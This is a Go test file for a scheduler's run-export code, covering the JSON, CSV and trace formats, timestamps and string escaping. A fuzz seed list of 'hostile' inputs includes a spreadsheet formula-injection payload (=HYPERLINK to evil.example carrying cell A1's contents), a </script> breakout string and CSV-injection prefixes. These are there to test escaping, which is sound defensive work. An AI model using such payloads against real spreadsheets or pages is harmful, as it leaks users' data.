package export

import (
	"bytes"
	"encoding/json"
	"errors"
	"math/rand/v2"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/wasmsched/wasmsched/sched"
)

const (
	us = time.Microsecond
	ms = time.Millisecond
)

// fixture returns a run whose Start has a monotonic reading, and its jobs
// in every state: started, cancelled, failed, still queued, starting, and
// started with no delay. wall is the wall-clock time of the start.
func fixture(wall func(start time.Time) time.Time) (Meta, []Job) {
	start := time.Now()
	at := func(d time.Duration) time.Time { return start.Add(d) }
	m := Meta{
		Start:   start,
		Wall:    wall(start),
		At:      at(20 * ms),
		Seed:    42,
		Link:    "time=real&seed=42&delay=2ms",
		Made:    wall(start).Add(time.Second),
		Virtual: false,
		Settings: []Setting{
			{"time", "real"},
			{"seed", "42"},
			{"delay", "2 ms"},
			{"note", "a \"quoted\" \\ value\n\u2028"},
		},
	}
	id := func(n int) string { return strings.Repeat("0", 31) + strconv.Itoa(n) }
	jobs := []Job{
		{Pos: 0, Rec: sched.Record{
			ID: id(0), Delay: 2 * ms,
			QueuedAt:  at(1*us + 1),
			ReadyAt:   at(1*us + 1 + 2*ms + 300*us),
			StartedAt: at(1*us + 1 + 2*ms + 350*us),
			DoneAt:    at(1*us + 1 + 2*ms + 350*us),
			State:     sched.Started,
		}},
		{Pos: 1, Batch: 1, Rec: sched.Record{
			ID: id(1), Delay: time.Hour,
			QueuedAt: at(1500 * us),
			DoneAt:   at(10 * ms),
			State:    sched.Cancelled,
			Err:      &sched.JobError{ID: id(1), State: sched.Cancelled},
		}},
		{Pos: 2, Batch: 1, Rec: sched.Record{
			ID: id(2), Delay: ms,
			QueuedAt: at(2 * ms),
			ReadyAt:  at(3100 * us),
			DoneAt:   at(4 * ms),
			State:    sched.Failed,
			Err:      &sched.JobError{ID: id(2), State: sched.Failed, Cause: errors.New("=HYPERLINK(\"x\"), \"quoted\"\nnext line\x01\xff")},
		}},
		{Pos: 3, Rec: sched.Record{
			ID: id(3), Delay: time.Hour,
			QueuedAt: at(5 * ms),
			State:    sched.Queued,
		}},
		{Pos: 4, Batch: 2, Rec: sched.Record{
			ID: id(4), Delay: ms,
			QueuedAt: at(6 * ms),
			ReadyAt:  at(7*ms + 123),
			State:    sched.Starting,
		}},
		{Pos: 5, Rec: sched.Record{
			ID:        id(5),
			QueuedAt:  at(8 * ms),
			ReadyAt:   at(8 * ms),
			StartedAt: at(8 * ms),
			DoneAt:    at(8 * ms),
			State:     sched.Started,
		}},
	}
	return m, jobs
}

// sameWall is the wall-clock time of a start as the brief of a real run
// has it: the start's own, without its monotonic reading.
func sameWall(start time.Time) time.Time { return start.Round(0) }

// columns are the fields of a job, in the order of the CSV's columns and of
// a JSON job's keys.
var columns = []string{"pos", "id", "batch", "state", "delay_ns", "queued_ns", "queued",
	"ready_ns", "ready", "started_ns", "started", "done_ns", "done", "late_ns", "valid", "error"}

// want returns what each field of j should say, as text; "" for null. It
// is worked out from the record with the standard library, not with the
// package's own code.
func want(m Meta, j Job) map[string]string {
	r := j.Rec
	w := map[string]string{
		"pos":      strconv.Itoa(j.Pos),
		"id":       r.ID,
		"batch":    strconv.Itoa(j.Batch),
		"state":    r.State.String(),
		"delay_ns": strconv.FormatInt(int64(r.Delay), 10),
		"valid":    strconv.FormatBool(r.Valid()),
	}
	for _, t := range []struct {
		key string
		t   time.Time
	}{{"queued", r.QueuedAt}, {"ready", r.ReadyAt}, {"started", r.StartedAt}, {"done", r.DoneAt}} {
		if t.t.IsZero() {
			w[t.key+"_ns"], w[t.key] = "", ""
			continue
		}
		off := t.t.Sub(m.Start)
		w[t.key+"_ns"] = strconv.FormatInt(int64(off), 10)
		w[t.key] = m.Wall.Add(off).UTC().Format(time.RFC3339Nano)
	}
	if !r.ReadyAt.IsZero() {
		w["late_ns"] = strconv.FormatInt(int64(r.ReadyAt.Sub(r.QueuedAt)-r.Delay), 10)
	}
	if r.Err != nil {
		// As encoding/json has it: invalid UTF-8 becomes U+FFFD.
		var e string
		s, _ := json.Marshal(r.Err.Error())
		json.Unmarshal(s, &e)
		w["error"] = e
	}
	return w
}

// text returns a JSON value as want writes it.
func text(t *testing.T, raw json.RawMessage) string {
	t.Helper()
	var v any
	d := json.NewDecoder(bytes.NewReader(raw))
	d.UseNumber()
	if err := d.Decode(&v); err != nil {
		t.Fatalf("%s: %v", raw, err)
	}
	switch v := v.(type) {
	case nil:
		return ""
	case string:
		return v
	case json.Number:
		return v.String()
	case bool:
		return strconv.FormatBool(v)
	}
	t.Fatalf("unexpected value %s", raw)
	return ""
}

func TestJSONHasEveryFieldOfTheRecords(t *testing.T) {
	m, jobs := fixture(sameWall)
	out := Write(JSON, m, jobs)
	if !json.Valid(out) {
		t.Fatalf("not JSON:\n%s", out)
	}
	var run struct {
		Format   string
		Version  int
		Made     *string
		Start    *string
		AtNS     *int64 `json:"at_ns"`
		Virtual  *bool
		Seed     *uint64
		Link     string
		Settings json.RawMessage
		Jobs     []map[string]json.RawMessage
	}
	if err := json.Unmarshal(out, &run); err != nil {
		t.Fatal(err)
	}
	if run.Format != "wasmsched-run" || run.Version != 1 {
		t.Errorf("format %q version %d", run.Format, run.Version)
	}
	if run.Made == nil || *run.Made != m.Made.UTC().Format(time.RFC3339Nano) {
		t.Errorf("made = %v, want %v", run.Made, m.Made)
	}
	if run.Start == nil || *run.Start != m.Wall.UTC().Format(time.RFC3339Nano) {
		t.Errorf("start = %v, want %v", run.Start, m.Wall)
	}
	if run.AtNS == nil || *run.AtNS != int64(20*ms) {
		t.Errorf("at_ns = %v, want %d", run.AtNS, 20*ms)
	}
	if run.Virtual == nil || *run.Virtual || run.Seed == nil || *run.Seed != 42 || run.Link != m.Link {
		t.Errorf("virtual %v seed %v link %q", run.Virtual, run.Seed, run.Link)
	}
	if got := settings(t, run.Settings); !equal(got, m.Settings) {
		t.Errorf("settings = %q, want %q", got, m.Settings)
	}

	if len(run.Jobs) != len(jobs) {
		t.Fatalf("%d jobs, want %d", len(run.Jobs), len(jobs))
	}
	for i, j := range jobs {
		got := run.Jobs[i]
		if len(got) != len(columns) {
			t.Errorf("job %d has %d keys, want %d: %v", i, len(got), len(columns), got)
		}
		for col, w := range want(m, j) {
			raw, ok := got[col]
			if !ok {
				t.Errorf("job %d: no %q", i, col)
				continue
			}
			if w == "" && string(raw) != "null" {
				t.Errorf("job %d: %s = %s, want null", i, col, raw)
			}
			if g := text(t, raw); g != w {
				t.Errorf("job %d: %s = %q, want %q", i, col, g, w)
			}
		}
	}
}

// settings reads a JSON object's members in order.
func settings(t *testing.T, raw json.RawMessage) []Setting {
	t.Helper()
	d := json.NewDecoder(bytes.NewReader(raw))
	if tok, err := d.Token(); err != nil || tok != json.Delim('{') {
		t.Fatalf("settings %s: %v %v", raw, tok, err)
	}
	var ss []Setting
	for d.More() {
		var s Setting
		tok, err := d.Token()
		if err != nil {
			t.Fatal(err)
		}
		s.Name = tok.(string)
		if err := d.Decode(&s.Value); err != nil {
			t.Fatal(err)
		}
		ss = append(ss, s)
	}
	return ss
}

func equal(a, b []Setting) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestPrintedTimesAreWallPlusOffset(t *testing.T) {
	// The wall clock of the start, read apart from it, may differ from the
	// start's own wall reading (in a browser it steps by milliseconds).
	wall := func(start time.Time) time.Time {
		return time.Date(2030, 1, 2, 3, 4, 5, 999_999_000, time.FixedZone("x", 3600))
	}
	m, jobs := fixture(wall)
	out := string(Write(JSON, m, jobs))
	// Job 0 was queued 1 µs + 1 ns after the start.
	if !strings.Contains(out, `"queued_ns":1001,"queued":"2030-01-02T02:04:06.000000001Z"`) {
		t.Errorf("job 0's queued time is not Wall + 1001 ns, in UTC:\n%s", out)
	}
	if !strings.Contains(out, `"start":"2030-01-02T02:04:05.999999Z"`) {
		t.Errorf("start is not Wall in UTC:\n%s", out)
	}
	out = string(Write(CSV, m, jobs))
	if !strings.Contains(out, ",1001,2030-01-02T02:04:06.000000001Z,") {
		t.Errorf("CSV: job 0's queued time is not Wall + 1001 ns, in UTC:\n%s", out)
	}
}

func TestChunkedIsWhole(t *testing.T) {
	m, jobs := fixture(sameWall)
	for _, f := range []Format{JSON, CSV, Trace} {
		for _, n := range []int{0, 1, len(jobs)} {
			whole := Write(f, m, jobs[:n])
			// Flush between every call, into a slice reused as the page does.
			var out, buf []byte
			flush := func() { out = append(out, buf...); buf = buf[:0] }
			e := New(f, m)
			buf = e.Begin(buf)
			flush()
			for _, j := range jobs[:n] {
				buf = e.Job(buf, j)
				flush()
			}
			buf = e.End(buf)
			flush()
			if !bytes.Equal(out, whole) {
				t.Errorf("%v, %d jobs: chunked\n%s\nwhole\n%s", f, n, out, whole)
			}
			if f != CSV && !json.Valid(whole) {
				t.Errorf("%v, %d jobs: not JSON:\n%s", f, n, whole)
			}
		}
	}
}

func TestFormats(t *testing.T) {
	m := Meta{Seed: 42}
	names := map[string]bool{}
	for _, f := range []Format{JSON, CSV, Trace} {
		g, ok := ParseFormat(f.String())
		if !ok || g != f {
			t.Errorf("ParseFormat(%q) = %v, %v", f.String(), g, ok)
		}
		name := f.FileName(m)
		if names[name] {
			t.Errorf("two formats save as %q", name)
		}
		names[name] = true
		if !strings.HasSuffix(name, "."+f.Ext()) || !strings.Contains(name, "42") {
			t.Errorf("%v.FileName = %q", f, name)
		}
	}
	for f, mime := range map[Format]string{JSON: "application/json", CSV: "text/csv", Trace: "application/json"} {
		if f.MIME() != mime {
			t.Errorf("%v.MIME() = %q, want %q", f, f.MIME(), mime)
		}
	}
	if got := Trace.FileName(m); got != "wasmsched-run-42-trace.json" {
		t.Errorf("Trace.FileName = %q", got)
	}
	if _, ok := ParseFormat("xml"); ok {
		t.Error(`ParseFormat("xml") is ok`)
	}
	if s := Format(9).String(); s != "Format(9)" {
		t.Errorf("Format(9).String() = %q", s)
	}
	defer func() {
		if recover() == nil {
			t.Error("New(Format(9), ...) did not panic")
		}
	}()
	New(Format(9), m)
}

func TestAppendDecimal(t *testing.T) {
	for _, tt := range []struct {
		n      int64
		places int
		want   string
	}{
		{0, 3, "0"},
		{1500_000, 3, "1500"},
		{1001, 3, "1.001"},
		{1010, 3, "1.01"},
		{999, 3, "0.999"},
		{-1, 3, "-0.001"},
		{-1500, 3, "-1.5"},
		{1, 6, "0.000001"},
		{2_000_000, 6, "2"},
		{-9223372036854775808, 3, "-9223372036854775.808"},
		{9223372036854775807, 6, "9223372036854.775807"},
	} {
		if got := string(appendDecimal(nil, tt.n, tt.places)); got != tt.want {
			t.Errorf("appendDecimal(%d, %d) = %q, want %q", tt.n, tt.places, got, tt.want)
		}
	}
}

// hostile are texts an error may hold.
var hostile = []string{
	"",
	"plain",
	`"quoted" \ back\slash /`,
	"control \x00\x01\x1f\x7f \b\f\n\r\t",
	"line\u2028separator\u2029paragraph",
	"invalid \xff\xfe utf-8 \xc3 cut \xe2\x80",
	"</script><!-- & -->",
	"émigré 😀 中文",
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"+1", "-1", "@SUM(A1)", "\tx", "\rx", "\r\nx", "a,b", "a\r\nb", "\"",
}

func FuzzAppendString(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := appendString([]byte("x"), s)[1:]
		if !json.Valid(out) {
			t.Fatalf("%q: not JSON: %s", s, out)
		}
		if bytes.ContainsAny(out, "\u2028\u2029") {
			t.Errorf("%q: U+2028 or U+2029 left raw: %s", s, out)
		}
		var got, want string
		if err := json.Unmarshal(out, &got); err != nil {
			t.Fatal(err)
		}
		std, _ := json.Marshal(s)
		json.Unmarshal(std, &want)
		if got != want {
			t.Errorf("%q: read back %q, want %q (as encoding/json)", s, got, want)
		}
	})
}

func TestStampIsRFC3339Nano(t *testing.T) {
	wall := time.Date(2026, 12, 31, 23, 59, 59, 0, time.FixedZone("x", -5*3600))
	e := New(JSON, Meta{Start: wall, Wall: wall})
	rng := rand.New(rand.NewPCG(1, 2))
	offs := []int64{0, 1, 999_999_999, 1e9, 1e9 + 1, -1, -1e9, 0, 1}
	for range 1000 {
		offs = append(offs, rng.Int64N(4e9)-2e9, rng.Int64N(4)*1e9)
	}
	for _, off := range offs {
		want := wall.Add(time.Duration(off)).UTC().Format(time.RFC3339Nano)
		if got := string(e.appendStamp(nil, off)); got != want {
			t.Fatalf("appendStamp(%d) = %q, want %q", off, got, want)
		}
	}
}
